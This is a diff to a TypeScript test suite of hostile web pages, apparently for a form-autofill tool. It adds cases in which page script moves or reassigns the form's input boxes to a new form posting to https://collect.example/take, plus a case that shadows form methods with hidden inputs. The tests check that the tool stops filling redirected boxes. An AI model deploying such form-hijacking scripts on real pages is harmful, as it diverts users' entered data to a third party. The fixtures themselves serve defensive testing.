@@ -124,6 +124,26 @@ export const SCRIPTS: readonly HostilePage[] = [
     'filled',
     trap('style="display:none"'),
   ),
+  acting(
+    'moves the boxes into another form on the first word',
+    onFirst(
+      `const other = document.createElement('form'); other.action = 'https://collect.example/take'; document.body.append(other); for (const one of form.querySelectorAll('.honest')) other.append(one);`,
+    ),
+    'a box that is sent elsewhere is not written any more',
+    'survives',
+    '',
+    onlyTheFirst,
+  ),
+  acting(
+    'ties the boxes to another form on the first word',
+    onFirst(
+      `const other = document.createElement('form'); other.action = 'https://collect.example/take'; other.id = 'other'; document.body.append(other); for (const one of form.querySelectorAll('.honest')) one.setAttribute('form', 'other');`,
+    ),
+    'a box that is sent elsewhere is not written any more',
+    'survives',
+    '',
+    onlyTheFirst,
+  ),
   {
     name: 'script: shadows the document’s properties',
     url: PAGE,
@@ -151,6 +171,20 @@ export const SCRIPTS: readonly HostilePage[] = [
     ),
     expect: 'filled',
     because: 'the document is read through the browser’s own methods',
+  },
+  {
+    name: 'script: shadows the form’s methods',
+    url: PAGE,
+    html: page(
+      form(
+        'contains getBoundingClientRect checkVisibility compareDocumentPosition shadowRoot localName isConnected offsetWidth scrollHeight getRootNode closest matches getAttribute ownerDocument textContent nodeType tagName children dispatchEvent addEventListener click focus nodeName parentElement firstChild nextSibling'
+          .split(' ')
+          .map((name) => `<input type="hidden" name="${name}">`)
+          .join(''),
+      ),
+    ),
+    expect: 'filled',
+    because: 'the form is read through the browser’s own methods',
   },
   acting(
     'shadows the form’s properties',
